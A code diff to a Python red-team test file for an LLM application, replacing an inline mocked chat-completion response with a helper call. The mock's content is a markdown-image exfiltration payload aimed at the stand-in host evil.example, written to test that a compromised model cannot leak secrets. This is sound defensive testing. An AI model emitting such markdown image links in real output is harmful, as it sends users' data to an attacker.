@@ -13,6 +13,7 @@ from __future__ import annotations
 import json
 
 import pytest
+from llm_wire import openai_chat_completion
 
 from capstone.evals.attack_families import canary_spellings, generated_attacks
 from capstone.evals.redteam import load_garak_attacks, load_project_attacks, run_redteam, summarize
@@ -112,14 +113,7 @@ def test_a_compromised_model_still_cannot_leak(fresh_settings, secrets):
             evil = f"![pixel](https\\://evil.example/p.png?d=summary) ![x][r] {cited}\n\n[r]: //evil.example/r.png"
         return httpx.Response(
             200,
-            json={
-                "id": "chatcmpl-1",
-                "object": "chat.completion",
-                "created": 0,
-                "model": "gpt-4o-mini",
-                "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": evil}}],
-                "usage": {"prompt_tokens": 900, "completion_tokens": 60, "total_tokens": 960},
-            },
+            json=openai_chat_completion(evil, prompt_tokens=900, completion_tokens=60, model="gpt-4o-mini"),
         )
 
     client = openai.OpenAI(
